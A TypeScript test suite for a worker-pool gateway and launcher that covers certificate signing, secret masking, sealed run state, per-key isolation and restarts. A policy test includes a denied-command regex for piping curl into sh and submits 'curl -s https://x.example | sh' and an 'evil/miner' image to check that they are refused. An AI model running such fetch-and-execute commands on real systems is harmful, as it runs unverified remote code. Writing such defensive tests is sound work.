import assert from "node:assert/strict";
import { execFile, execFileSync } from "node:child_process";
import { generateKeyPairSync } from "node:crypto";
import { chmodSync, existsSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { promisify } from "node:util";
import { launcherSettings, type LauncherSettings } from "../agent/config/launcher";
import { settingsJsonSchema } from "../agent/config/settings-schema";
import type { RunningAgent } from "../agent/runtime/runtime";
import { runRole } from "../agent/runtime/runtime";
import { decodeToken, encodeToken } from "../protocol/token";
import { launcherRole } from "../agent/launcher/launcher";
import { openBuffer, privateKeyFromBase64 } from "../protocol/seal";
import { loadOrCreateAuthority, signPoolRequest } from "../gateway/certificates";
import { Gateway } from "../gateway/gateway";
import { SqliteStore } from "../gateway/sqlite-store";
import { createPool, type PoolDefinition } from "../gateway/pools";
import type { WorkerRun } from "../gateway/worker-hub";
import { capturingLogger, eventually, freePort, scratchDir, serviceKey } from "../devkit/helpers";
import { cachedFiles } from "../devkit/fixture-cache";

const exec = promisify(execFile);
const POOL = "workers";

/**
 * The documented command, answered with the defaults as a user pressing Enter would. Its 4096-bit key is seconds of
 * CPU: made once per openssl version, then kept (fixture-cache.ts).
 */
function opensslRequest(): { keyBase64: string; csr: string } {
  const made = cachedFiles(`openssl req ${execFileSync("openssl", ["version"])}`, (dir) =>
    execFileSync(
      "openssl",
      ["req", "-new", "-newkey", "rsa:4096", "-nodes", "-keyout", "spacelift.key", "-out", "spacelift.csr"],
      { cwd: dir, input: "\n".repeat(12), stdio: ["pipe", "ignore", "ignore"] },
    ),
  );
  return {
    keyBase64: readFileSync(path.join(made, "spacelift.key")).toString("base64"),
    csr: readFileSync(path.join(made, "spacelift.csr"), "utf8"),
  };
}

describe("worker pools: gateway run queue and launcher", function () {
  this.timeout(60_000);
  let dir: string;
  let port: number;
  let url: string;
  let dataDir: string;
  let pools: PoolDefinition[];
  let gateway: Gateway;
  let token: string;
  let keyBase64: string;
  let policyFile: string;
  let launcher: RunningAgent;
  const launcherLog = capturingLogger("launcher");
  const launcherEnv = {
    PATH: process.env.PATH,
    VISIBLE_SETTING: "plain-value",
    DEPLOY_SECRET: "hunter2-very-secret",
    LAUNCHER_ONLY: "stays-home",
  };

  const settings = (overrides: Partial<Record<keyof LauncherSettings, unknown>> = {}): LauncherSettings =>
    launcherSettings.parse({
      token,
      poolPrivateKey: keyBase64,
      executor: "process",
      workDirectory: path.join(dir, "runs"),
      whitelistedEnvVars: ["VISIBLE_SETTING"],
      maskedEnvVars: ["DEPLOY_SECRET", "TF_VAR_password"],
      // Long: a loaded machine's pause must not end another test's run, or a state transfer (its stall timer). The
      // logs timeout's own test has a launcher of its own.
      logsTimeout: "60s",
      runInitializationPolicyFile: policyFile,
      metadataTags: { instance_id: "i-0123" },
      vcsAgents: [{ name: "corp-git", baseEndpoint: "https://git.corp.example.com" }],
      ...overrides,
    });

  const api = `/_agentpools/api/workers/${POOL}/runs`;
  const service = serviceKey();
  /** Another service's key, allowed on the same pool. */
  const intruder = serviceKey("intruder");
  async function submit(body: Record<string, unknown>): Promise<WorkerRun> {
    const response = await fetch(`${url}${api}`, {
      method: "POST",
      headers: service.headers,
      body: JSON.stringify(body),
    });
    const run = (await response.json()) as WorkerRun;
    assert.equal(response.status, 201, JSON.stringify(run));
    return run;
  }
  const status = async (id: string) =>
    (await (await fetch(`${url}${api}/${id}`, { headers: service.headers })).json()) as WorkerRun & {
      logLines: number;
    };
  const logs = async (id: string) =>
    (await (await fetch(`${url}${api}/${id}/logs`, { headers: service.headers })).text()).split("\n").slice(0, -1);
  const finished = (id: string, ms = 15_000) =>
    eventually(
      async () => {
        const run = await status(id);
        return !["queued", "running"].includes(run.status) && run;
      },
      ms,
      `run ${id} to finish`,
    );

  before(async () => {
    dir = scratchDir("worker-");
    const request = opensslRequest();
    keyBase64 = request.keyBase64;
    port = await freePort();
    url = `http://127.0.0.1:${port}`;
    dataDir = path.join(dir, "gateway");
    const certificate = await signPoolRequest(await loadOrCreateAuthority(dataDir), request.csr, POOL);
    const created = createPool(POOL, "worker", url, certificate);
    token = created.token;
    pools = [created.pool];
    policyFile = path.join(dir, "policy.json");
    writeFileSync(
      policyFile,
      JSON.stringify({ allowedImages: ["alpine:*", "public.ecr.aws/*"], deniedCommands: ["curl [^|]*\\|\\s*sh"] }),
    );
    gateway = new Gateway({
      pools,
      keys: [service.definition, intruder.definition],
      port,
      dataDir,
      log: capturingLogger("gateway").log,
    });
    await gateway.listen();
    launcher = await launcherRole().start(settings(), { log: launcherLog.log, env: launcherEnv });
    await launcher.ready;
    await eventually(() => gateway.summary()[0].connections === 1);
  });

  after(async () => {
    await launcher?.drain(Date.now() + 2000);
    await gateway?.close();
  });

  it("keys: the documented openssl req makes a CSR the gateway signs; the token carries the certificate", async () => {
    const decoded = decodeToken(token);
    assert.match(decoded.certificate ?? "", /^-----BEGIN CERTIFICATE-----/);
    const { X509Certificate } = await import("node:crypto");
    const cert = new X509Certificate(decoded.certificate as string);
    assert.ok(cert.checkPrivateKey(privateKeyFromBase64(keyBase64)));
    assert.ok(
      cert.verify(new X509Certificate(readFileSync(path.join(dataDir, "worker-ca.pem"))).publicKey),
      "signed by the gateway's worker CA",
    );
    assert.equal((await import("node:fs")).statSync(path.join(dataDir, "worker-ca.key")).mode & 0o777, 0o600);
  });

  it("keys: refuses a CSR that does not parse, and a key too weak or not RSA", async () => {
    const authority = await loadOrCreateAuthority(dataDir);
    await assert.rejects(signPoolRequest(authority, "not a csr", "x"), /does not parse/);
    const ec = path.join(dir, "ec");
    (await import("node:fs")).mkdirSync(ec);
    await exec(
      "openssl",
      [
        "req",
        "-new",
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:P-256",
        "-nodes",
        "-keyout",
        "k",
        "-out",
        "c",
        "-subj",
        "/CN=x",
      ],
      { cwd: ec },
    );
    await assert.rejects(
      signPoolRequest(authority, readFileSync(path.join(ec, "c"), "utf8"), "x"),
      /must be RSA of at least 2048 bits/,
    );
  });

  it("lists the registered worker with its metadata tags beside the pools", () => {
    const [pool] = gateway.summary();
    assert.equal(pool.kind, "worker");
    assert.equal(pool.agents[0].metadata.instance_id, "i-0123");
    assert.ok(launcherLog.lines.some((l) => l.msg === "Connected to the server"));
  });

  it("runs a submitted run: output lines in order, success, then a failing command's exit status", async () => {
    const ok = await submit({
      image: "alpine:3",
      commands: ["echo first", "printf 'second\\nthird\\n'", "echo to-stderr >&2"],
    });
    assert.equal(ok.status, "queued");
    const done = await finished(ok.id);
    assert.equal(done.status, "succeeded");
    assert.equal(done.exitCode, 0);
    assert.deepEqual(await logs(ok.id), ["first", "second", "third", "to-stderr"]);

    const bad = await finished(
      (await submit({ image: "alpine:3", commands: ["echo before", "exit 3", "echo never"] })).id,
    );
    assert.equal(bad.status, "failed");
    assert.equal(bad.exitCode, 3);
    assert.match(bad.reason ?? "", /exited with code 3/);
    assert.deepEqual(await logs(bad.id), ["before"]);
  });

  it("follows a run's log live until it ends", async () => {
    const run = await submit({ image: "alpine:3", commands: ["echo one", "sleep 0.3", "echo two"] });
    const response = await fetch(`${url}${api}/${run.id}/logs?follow=1`, { headers: service.headers });
    assert.equal(await response.text(), "one\ntwo\n");
    assert.equal((await status(run.id)).status, "succeeded");
  });

  it("environment: whitelisted variables pass, masked ones pass but never show, others stay with the launcher", async () => {
    const run = await submit({
      image: "alpine:3",
      commands: [
        "echo VISIBLE=$VISIBLE_SETTING",
        "echo SECRET=$DEPLOY_SECRET",
        "echo RUNSECRET=$TF_VAR_password",
        "echo ONLY=${LAUNCHER_ONLY:-unset} TOKEN=${SPACELIFT_TOKEN:-unset} KEY=${SPACELIFT_POOL_PRIVATE_KEY:-unset}",
        'echo split:$(printf %s "$DEPLOY_SECRET" | cut -c1-7)',
      ],
      environment: { TF_VAR_password: "run-level-password", TF_VAR_region: "eu-west-1" },
    });
    await finished(run.id);
    const lines = await logs(run.id);
    assert.deepEqual(lines, [
      "VISIBLE=plain-value",
      "SECRET=[masked]",
      "RUNSECRET=[masked]",
      "ONLY=unset TOKEN=unset KEY=unset",
      "split:hunter2",
    ]);
    const stored = readdirSync(dataDir, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
    assert.ok(stored.some((entry) => entry.name === "gateway.db"));
    for (const entry of stored) {
      const bytes = readFileSync(path.join(entry.parentPath, entry.name));
      for (const secret of ["hunter2-very-secret", "run-level-password", "eu-west-1"])
        assert.ok(!bytes.includes(secret), `${entry.name} holds a secret in plain text`);
    }
    assert.ok(!JSON.stringify(launcherLog.lines).includes("hunter2-very-secret"));
    assert.ok(!JSON.stringify(await status(run.id)).includes("run-level-password"));
  });

  it("environment: the VCS agent mapping of typed settings (an EC2 instance's file, no variables) reaches the run", async () => {
    const run = await submit({
      image: "alpine:3",
      commands: ["env | grep ^SPACELIFT_PRIVATEVCS_ | sort"],
    });
    await finished(run.id);
    assert.deepEqual(await logs(run.id), [
      "SPACELIFT_PRIVATEVCS_MAPPING_BASE_ENDPOINT_0=https://git.corp.example.com",
      "SPACELIFT_PRIVATEVCS_MAPPING_NAME_0=corp-git",
    ]);
  });

  it("masks a value even when the pipe splits it across reads", async () => {
    const run = await submit({
      image: "alpine:3",
      commands: ["printf 'x=hunter2-'; sleep 0.2; printf 'very-secret; done\\n'"],
    });
    await finished(run.id);
    assert.deepEqual(await logs(run.id), ["x=[masked]; done"]);
  });

  it("kills a run that prints nothing for the logs timeout, and says so", async () => {
    // A pool of its own on the gateway, whose launcher's logs timeout is 300 ms.
    const quietPort = await freePort();
    const quietUrl = `http://127.0.0.1:${quietPort}`;
    const quietData = scratchDir("worker-quiet-");
    const certificate = await signPoolRequest(await loadOrCreateAuthority(quietData), opensslRequest().csr, POOL);
    const quiet = createPool(POOL, "worker", quietUrl, certificate);
    const quietGateway = new Gateway({
      pools: [quiet.pool],
      keys: [service.definition],
      port: quietPort,
      dataDir: quietData,
      log: capturingLogger("gateway").log,
    });
    await quietGateway.listen();
    const quietLauncher = await launcherRole().start(
      settings({ token: quiet.token, logsTimeout: "300ms", workDirectory: path.join(dir, "quiet-runs") }),
      { log: capturingLogger("launcher").log, env: launcherEnv },
    );
    const saved = url;
    try {
      await eventually(() => quietGateway.summary()[0].connections === 1);
      url = quietUrl;
      const started = Date.now();
      const run = await finished((await submit({ image: "alpine:3", commands: ["echo working", "sleep 30"] })).id);
      assert.equal(run.status, "timed_out");
      assert.match(run.reason ?? "", /no log output for 300ms/);
      assert.ok(Date.now() - started < 10_000);
      assert.deepEqual(await logs(run.id), ["working", "[agentpools: killed: no log output for 300ms]"]);
    } finally {
      url = saved;
      await quietLauncher.drain(Date.now() + 2000);
      await quietGateway.close();
    }
  });

  it("kills a run at its run timeout even while it keeps printing", async () => {
    const run = await finished(
      (await submit({ image: "alpine:3", timeoutSeconds: 1, commands: ["while true; do echo tick; sleep 0.1; done"] }))
        .id,
    );
    assert.equal(run.status, "timed_out");
    assert.match(run.reason ?? "", /took longer than 1s/);
    assert.equal((await logs(run.id)).at(-1), "[agentpools: killed: the run took longer than 1s]");
  });

  it("the run initialization policy refuses a run, with the reason in its log; the next run still runs", async () => {
    const image = await finished((await submit({ image: "docker.io/evil/miner:latest", commands: ["echo hi"] })).id);
    assert.equal(image.status, "refused");
    assert.match(
      (await logs(image.id))[0],
      /refused by the run initialization policy: image docker.io\/evil\/miner:latest is not allowed/,
    );
    const command = await finished(
      (await submit({ image: "alpine:3", commands: ["echo ok", "curl -s https://x.example | sh"] })).id,
    );
    assert.equal(command.status, "refused");
    assert.match(command.reason ?? "", /command 2 matches the denied pattern/);
    assert.equal(
      (await finished((await submit({ image: "alpine:3", commands: ["echo fine"] })).id)).status,
      "succeeded",
    );
  });

  it("an invalid policy file stops the launcher at start-up with a clear error", () => {
    const bad = path.join(dir, "bad-policy.json");
    writeFileSync(bad, JSON.stringify({ allowedImage: ["alpine"], deniedCommands: ["(unclosed"] }));
    assert.throws(
      () =>
        launcherRole().start(settings({ runInitializationPolicyFile: bad }), {
          log: capturingLogger("l").log,
          env: {},
        }),
      (error: Error) => {
        assert.match(error.message, /run initialization policy .*bad-policy.json is not valid/);
        assert.match(error.message, /policy.allowedImage: is not a known field/);
        assert.match(
          error.message,
          /policy.deniedCommands\[0\]: "\(unclosed" is not allowed: expected a valid regular expression/,
        );
        return true;
      },
    );
    writeFileSync(bad, "{ not json");
    assert.throws(
      () =>
        launcherRole().start(settings({ runInitializationPolicyFile: bad }), {
          log: capturingLogger("l").log,
          env: {},
        }),
      /cannot be read as JSON/,
    );
  });

  it("extra mounts: malformed values are refused by the schema, missing host paths at start-up", () => {
    for (const bad of ["relative:/x", "/a", "/a:relative", "/a/../etc:/x", "/a:/x:rx", '/a":/x', "/a=b:/x"]) {
      const result = launcherSettings.safeParse({ token: "t", poolPrivateKey: keyBase64, extraMounts: [bad] });
      assert.ok(!result.success, `${bad} was accepted`);
      assert.match(result.error.issues[0].message, /must be "\/host\/path:\/container\/path"/);
    }
    assert.ok(
      launcherSettings.safeParse({
        token: "t",
        poolPrivateKey: keyBase64,
        extraMounts: ["/etc/ssl/certs:/etc/ssl/certs:ro", "/opt/x..y:/x"],
      }).success,
    );
    assert.throws(
      () =>
        launcherRole().start(settings({ extraMounts: ["/nonexistent/agentpools:/x"] }), {
          log: capturingLogger("l").log,
          env: {},
        }),
      /SPACELIFT_WORKER_EXTRA_MOUNTS: \/nonexistent\/agentpools does not exist/,
    );
  });

  it("state is sealed for the pool at the gateway and opened by the worker of a later run", async () => {
    const first = await finished(
      (
        await submit({
          image: "alpine:3",
          commands: [
            'mkdir -p "$(dirname "$AGENTPOOLS_STATE_FILE")"',
            'echo "serial=41 resources=aws_vpc.main" > "$AGENTPOOLS_STATE_FILE"',
          ],
        })
      ).id,
    );
    assert.equal(first.status, "succeeded");
    assert.equal(first.state, true);
    const stored = readFileSync(path.join(dataDir, "state", first.id));
    assert.equal(stored.subarray(0, 4).toString(), "APS1");
    assert.ok(!stored.includes("serial=41"), "the gateway must hold ciphertext only");
    assert.equal(
      (await openBuffer(privateKeyFromBase64(keyBase64), stored)).toString(),
      "serial=41 resources=aws_vpc.main\n",
    );

    const second = await finished(
      (await submit({ image: "alpine:3", stateFrom: first.id, commands: ['cat "$AGENTPOOLS_STATE_FILE"'] })).id,
    );
    assert.equal(second.status, "succeeded");
    assert.deepEqual(await logs(second.id), ["serial=41 resources=aws_vpc.main"]);
    assert.equal(second.state, true, "the state it started from is carried on");

    const tampered = Buffer.from(stored);
    tampered[tampered.length - 20] ^= 1;
    writeFileSync(path.join(dataDir, "state", first.id), tampered);
    const third = await finished(
      (await submit({ image: "alpine:3", stateFrom: first.id, commands: ["echo should-not-run"] })).id,
    );
    assert.equal(third.status, "failed");
    assert.match(third.reason ?? "", /state of run .* cannot be opened: the sealed state failed authentication/);
    assert.deepEqual(await logs(third.id), []);
  });

  it("runs belong to the key that submitted them: another key on the pool gets what a run that does not exist gets, across a restart", async () => {
    const marks = ["a-log-line-5e2", "a-state-bytes-91f", "a-env-value-c07"];
    const mine = await finished(
      (
        await submit({
          image: "alpine:3",
          environment: { A_ONLY: marks[2] },
          commands: [
            `echo ${marks[0]}`,
            'mkdir -p "$(dirname "$AGENTPOOLS_STATE_FILE")"',
            `echo ${marks[1]} > "$AGENTPOOLS_STATE_FILE"`,
          ],
        })
      ).id,
    );
    assert.equal(mine.state, true);
    const unknown = "00000000-0000-4000-8000-000000000000";
    const received: string[] = [];
    /** What B gets, with A's run ID put back to the unknown one's: the same answer, or an oracle. */
    const asIntruder = async (target: string, init: RequestInit = {}) => {
      const response = await fetch(`${url}${target}`, { ...init, headers: intruder.headers });
      const body = await response.text();
      received.push(body);
      return `${response.status} ${body.replaceAll(mine.id, unknown)}`;
    };
    const attempts = async () => {
      for (const target of [`${api}/ID`, `${api}/ID/logs`, `${api}/ID/logs?follow=1`])
        assert.equal(
          await asIntruder(target.replace("ID", mine.id)),
          await asIntruder(target.replace("ID", unknown)),
          target,
        );
      // The stateFrom trick: a run of B's own that would start with A's state.
      const trick = (stateFrom: string) =>
        asIntruder(api, {
          method: "POST",
          body: JSON.stringify({ image: "alpine:3", stateFrom, commands: ['cat "$AGENTPOOLS_STATE_FILE"'] }),
        });
      const refused = await trick(mine.id);
      assert.equal(refused, await trick(unknown));
      assert.match(refused, /^400 .*must be a finished run of yours/);
      // The state route takes a launcher's credentials, never a service key.
      assert.match(await asIntruder(`${api}/${mine.id}/state`), /^401 /);
      const listed = JSON.parse((await asIntruder(api)).slice(4)) as { runs: WorkerRun[] };
      assert.deepEqual(listed.runs, [], "B made nothing and sees nothing");
      assert.equal(await asIntruder(`${api}?before=${mine.id}`), await asIntruder(`${api}?before=${unknown}`));
      for (const body of received) for (const mark of marks) assert.ok(!body.includes(mark), body);
      received.length = 0;
      // A reads its own.
      assert.equal((await status(mine.id)).status, "succeeded");
      assert.deepEqual(await logs(mine.id), [marks[0]]);
      const own = (await (await fetch(`${url}${api}`, { headers: service.headers })).json()) as { runs: WorkerRun[] };
      assert.ok(own.runs.some((run) => run.id === mine.id));
    };
    await attempts();
    // The owner is stored: a restarted gateway keeps each run its key's.
    await gateway.close();
    gateway = new Gateway({
      pools,
      keys: [service.definition, intruder.definition],
      port,
      dataDir,
      log: capturingLogger("gateway").log,
    });
    await gateway.listen();
    // (Its launcher back first: by then the client's keep-alive connections to the old gateway are seen closed.)
    await eventually(() => gateway.summary()[0].connections === 1);
    await attempts();
    const carried = await finished(
      (await submit({ image: "alpine:3", stateFrom: mine.id, commands: ['cat "$AGENTPOOLS_STATE_FILE"'] })).id,
    );
    assert.deepEqual(await logs(carried.id), [marks[1]], "A still starts from its own state");
  });

  it("refuses bad submissions with the field and the value", async () => {
    for (const [body, message] of [
      [{ image: "alpine:3", commands: [] }, /commands must be a non-empty list/],
      [{ image: "-bad", commands: ["x"] }, /image "-bad" must be an image reference/],
      [
        { image: "alpine:3", commands: ["x"], timeoutSeconds: 0 },
        /timeoutSeconds 0 must be an integer from 1 to 86400/,
      ],
      [
        { image: "alpine:3", commands: ["x"], environment: { "1BAD": "x" } },
        /environment "1BAD" must be a variable name/,
      ],
      [
        { image: "alpine:3", commands: ["x"], stateFrom: "00000000-0000-0000-0000-000000000000" },
        /stateFrom .* must be a finished run/,
      ],
      [{ image: "alpine:3", commands: ["x"], sneaky: 1 }, /unknown fields sneaky/],
    ] as const) {
      const response = await fetch(`${url}${api}`, {
        method: "POST",
        headers: service.headers,
        body: JSON.stringify(body),
      });
      assert.equal(response.status, 400);
      assert.match(((await response.json()) as { error: string }).error, message);
    }
  });

  it("a wrong key stops the launcher before it connects", () => {
    const other = generateKeyPairSync("rsa", { modulusLength: 2048 });
    const otherBase64 = Buffer.from(other.privateKey.export({ type: "pkcs8", format: "pem" })).toString("base64");
    assert.throws(
      () => launcherRole().start(settings({ poolPrivateKey: otherBase64 }), { log: capturingLogger("l").log, env: {} }),
      /SPACELIFT_POOL_PRIVATE_KEY does not belong to the certificate in SPACELIFT_TOKEN/,
    );
  });

  it("a wrong token is refused: a bad secret by the gateway, another pool kind's token at start-up", async () => {
    const decoded = decodeToken(token);
    const forged = encodeToken({ ...decoded, secret: "x".repeat(43) });
    const refused = await launcherRole().start(settings({ token: forged }), { log: capturingLogger("l").log, env: {} });
    await assert.rejects(refused.stopped, /refused the connection: 401/);
    const vcs = createPool("git", "vcs", url).token;
    assert.throws(
      () => launcherRole().start(settings({ token: vcs }), { log: capturingLogger("l").log, env: {} }),
      /carries no certificate/,
    );
  });

  it("a gateway restarted during a run loses nothing: the worker reconnects and delivers log, status and state", async () => {
    // The run ticks (its count also in a file the test reads) until the test, the outage over, tells it to go on.
    const ticks = path.join(dir, "restart-ticks");
    const go = path.join(dir, "restart-go");
    const run = await submit({
      image: "alpine:3",
      commands: [
        "echo before",
        `i=0; until [ -e '${go}' ]; do i=$((i + 1)); echo tick $i; echo $i > '${ticks}'; sleep 0.05; done`,
        'mkdir -p "$(dirname "$AGENTPOOLS_STATE_FILE")"; echo kept > "$AGENTPOOLS_STATE_FILE"',
        "echo after",
      ],
    });
    await eventually(async () => (await status(run.id)).logLines >= 2, 5000, "the run to start");
    const before = launcherLog.lines.length;
    await gateway.close();
    // Read while the shell writes it: a missing or empty file is no count yet.
    const ticked = () => (existsSync(ticks) ? Number(readFileSync(ticks, "utf8")) : 0);
    const atClose = await eventually(ticked, 5000, "a tick count");
    // The outage is real once the launcher has failed to dial back while its run goes on and prints.
    await eventually(
      () => launcherLog.lines.slice(before).some((line) => line.msg === "cannot reach the gateway"),
      10_000,
      "a failed redial",
    );
    await eventually(() => ticked() > atClose + 1, 5000, "lines printed during the outage");
    gateway = new Gateway({
      pools,
      keys: [service.definition, intruder.definition],
      port,
      dataDir,
      log: capturingLogger("gateway").log,
    });
    await gateway.listen();
    writeFileSync(go, "");
    const done = await finished(run.id, 20_000);
    assert.equal(done.status, "succeeded");
    assert.equal(done.state, true);
    const lines = await logs(run.id);
    const count = lines.length - 2;
    assert.ok(count > atClose + 1, `${count} ticks, ${atClose} of them before the outage`);
    assert.deepEqual(lines, ["before", ...Array.from({ length: count }, (_, i) => `tick ${i + 1}`), "after"]);
    await eventually(() => gateway.summary()[0].connections === 1);
  });

  it("drains on SIGTERM: takes no new run, finishes the current one, exits 0", async () => {
    const exited: number[] = [];
    let stop!: (signal: string) => void;
    const env = {
      ...launcherEnv,
      SPACELIFT_TOKEN: token,
      SPACELIFT_POOL_PRIVATE_KEY: keyBase64,
      AGENTPOOLS_WORKER_EXECUTOR: "process",
      AGENTPOOLS_WORK_DIR: path.join(dir, "drain-runs"),
      SPACELIFT_LAUNCHER_LOGS_TIMEOUT: "5s",
    };
    // The current run lasts until the test has seen the worker draining and submitted the next one.
    const go = path.join(dir, "drain-go");
    await launcher.drain(Date.now() + 2000);
    const running = runRole(launcherRole(), settingsJsonSchema("launcher"), {
      env,
      argv: [],
      exit: (code) => exited.push(code),
      stopSignal: new Promise((resolve) => (stop = resolve)),
    });
    await eventually(() => gateway.summary()[0].connections === 1);
    const current = await submit({
      image: "alpine:3",
      commands: ["echo started", `until [ -e '${go}' ]; do sleep 0.02; done`, "echo finished"],
    });
    await eventually(async () => (await status(current.id)).logLines >= 1);
    stop("SIGTERM");
    await eventually(() => gateway.summary()[0].agents[0]?.draining, 5000, "the worker to say it is draining");
    const next = await submit({ image: "alpine:3", commands: ["echo must-wait"] });
    assert.equal((await status(current.id)).status, "running", "the current run still running");
    writeFileSync(go, "");
    assert.equal(await running, 0);
    assert.deepEqual(exited, [0]);
    assert.equal((await status(current.id)).status, "succeeded");
    assert.deepEqual(await logs(current.id), ["started", "finished"]);
    assert.equal((await status(next.id)).status, "queued", "a draining worker takes no new run");

    // A later launcher takes the queued run; stopped with a short bound, its long run is cut and reported.
    launcher = await launcherRole().start(settings(), { log: launcherLog.log, env: launcherEnv });
    assert.equal((await finished(next.id)).status, "succeeded");
    const long = await submit({ image: "alpine:3", commands: ["while true; do echo busy; sleep 0.2; done"] });
    await eventually(async () => (await status(long.id)).logLines >= 1);
    await launcher.drain(Date.now() + 300);
    const cut = await status(long.id);
    assert.equal(cut.status, "failed");
    assert.match(cut.reason ?? "", /stopped before the run finished/);
  });
});

describe("worker pools: a gateway without a data directory", function () {
  this.timeout(60_000);

  it("state too large to hold in memory: the run is still reported, without its state, saying why", async () => {
    const { makePoolKeyAndRequest } = await import("../gateway/certificates");
    const dir = scratchDir("worker-mem-");
    const port = await freePort();
    const url = `http://127.0.0.1:${port}`;
    const { keyBase64, csr } = await makePoolKeyAndRequest("mem");
    const created = createPool(
      "mem",
      "worker",
      url,
      await signPoolRequest(await loadOrCreateAuthority(dir), csr, "mem"),
    );
    // A cap of 1 MiB in place of the default 64 MiB: what the test shows is past the cap, not the cap's size.
    const store = new SqliteStore(undefined, 1024 * 1024);
    const gateway = new Gateway({ pools: [created.pool], port, store, log: capturingLogger("gateway").log });
    await gateway.listen();
    const launcher = await launcherRole().start(
      launcherSettings.parse({
        token: created.token,
        poolPrivateKey: keyBase64,
        executor: "process",
        workDirectory: path.join(dir, "runs"),
      }),
      { log: capturingLogger("launcher").log, env: { PATH: process.env.PATH } },
    );
    try {
      await launcher.ready;
      const run = await gateway.workers.submit("mem", {
        image: "alpine:3",
        commands: [
          'mkdir -p "$(dirname "$AGENTPOOLS_STATE_FILE")"',
          'head -c 3000000 /dev/zero > "$AGENTPOOLS_STATE_FILE"',
          "echo done",
        ],
      });
      const done = await eventually(
        async () => {
          const current = await gateway.workers.get("mem", run.id);
          return !["queued", "running"].includes(current.status) && current;
        },
        30_000,
        "the run to be reported",
      );
      assert.equal(done.status, "succeeded");
      assert.equal(done.state, false);
      assert.match(done.reason ?? "", /state was too large for the gateway to store/);
      assert.equal(
        gateway.workers.summary("mem").agents[0].currentRun,
        undefined,
        "the launcher is free for the next run",
      );
    } finally {
      await launcher.drain(Date.now() + 2000);
      await gateway.close();
    }
  });
});

describe("worker pools: the Docker executor", () => {
  it("issues docker run with network, runtime, mounts, config dir and variables by name only", async () => {
    const { dockerRunArgs } = await import("../agent/launcher/executor");
    const args = dockerRunArgs(
      {
        dockerConfigDir: "/etc/agentpools/docker",
        workerNetwork: "runs",
        workerRuntime: "runsc",
        extraMounts: ["/etc/ssl/certs:/etc/ssl/certs:ro", "/opt/cache:/cache"],
      },
      {
        id: "r1",
        image: "public.ecr.aws/spacelift/runner-terraform:latest",
        script: "terraform init\nterraform plan",
        env: { TF_VAR_password: "pw", B: "1" },
        workspace: "/var/lib/agentpools/runs/r1/workspace",
      },
    );
    assert.deepEqual(args, [
      "--config",
      "/etc/agentpools/docker",
      "run",
      "--rm",
      "--name",
      "agentpools-run-r1",
      "--label",
      "agentpools.run=r1",
      "--network",
      "runs",
      "--runtime",
      "runsc",
      "--security-opt",
      "no-new-privileges",
      "--init",
      "--mount",
      "type=bind,source=/var/lib/agentpools/runs/r1/workspace,target=/workspace",
      "--workdir",
      "/workspace",
      "--mount",
      "type=bind,source=/etc/ssl/certs,target=/etc/ssl/certs,readonly",
      "--mount",
      "type=bind,source=/opt/cache,target=/cache",
      "--env-file",
      "/var/lib/agentpools/runs/r1/env",
      "--entrypoint",
      "/bin/sh",
      "--",
      "public.ecr.aws/spacelift/runner-terraform:latest",
      "-ec",
      "terraform init\nterraform plan",
    ]);
    assert.ok(!args.join(" ").includes("pw"), "no value on the command line");
  });

  it("runs through the Docker CLI: values reach it through a file (those of several lines by name), output and exit status come back, kill reaches docker rm -f", async () => {
    const { dockerExecutor } = await import("../agent/launcher/executor");
    const dir = scratchDir("docker-");
    // A stand-in for the docker CLI (no engine runs here): it records what it was given and runs the script.
    const fake = path.join(dir, "docker");
    writeFileSync(
      fake,
      `#!/bin/sh\necho "$*" >> "${dir}/calls"\ncase " $1 $3 " in *" kill "*|*" rm "*) exit 0;; esac\nfor last; do :; done\necho "secret-in-env=$TF_VAR_password"\ncat "${dir}/env"; echo\nexec /bin/sh -ec "$last"\n`,
    );
    chmodSync(fake, 0o755);
    const settings = launcherSettings.parse({
      token: "t",
      poolPrivateKey: Buffer.from("-----BEGIN PRIVATE KEY-----").toString("base64"),
      workerNetwork: "runs",
    });
    const executor = dockerExecutor(settings, { PATH: process.env.PATH, DOCKER_HOST: "unix:///run/docker.sock" }, fake);
    assert.equal(executor.workspaceInRun(dir), "/workspace");
    const output: string[] = [];
    const run = executor.start({
      id: "r2",
      image: "alpine:3",
      script: "echo from-container; exit 4",
      env: { TF_VAR_password: "pw-1", KEY: "a\nb" },
      workspace: path.join(dir, "workspace"),
    });
    run.onOutput((chunk) => output.push(chunk.toString()));
    assert.deepEqual(await run.exited, { code: 4, signal: null });
    // The value of one line through the file, the value of several by name through the client's environment.
    assert.equal(output.join(""), "secret-in-env=\nTF_VAR_password=pw-1\nKEY\nfrom-container\n");
    assert.ok(!existsSync(path.join(dir, "env")), "the env file is removed once the client is done");

    const long = executor.start({
      id: "r3",
      image: "alpine:3",
      script: "exec sleep 30",
      env: {},
      workspace: path.join(dir, "workspace"),
    });
    // Killed once the client has started (it records its arguments first thing).
    await eventually(() => readFileSync(path.join(dir, "calls"), "utf8").includes("agentpools-run-r3"));
    long.kill();
    assert.equal((await long.exited).signal, "SIGKILL");
    await eventually(() => readFileSync(path.join(dir, "calls"), "utf8").includes("rm -f agentpools-run-r3"));
    assert.ok(existsSync(path.join(dir, "calls")));
  });
});
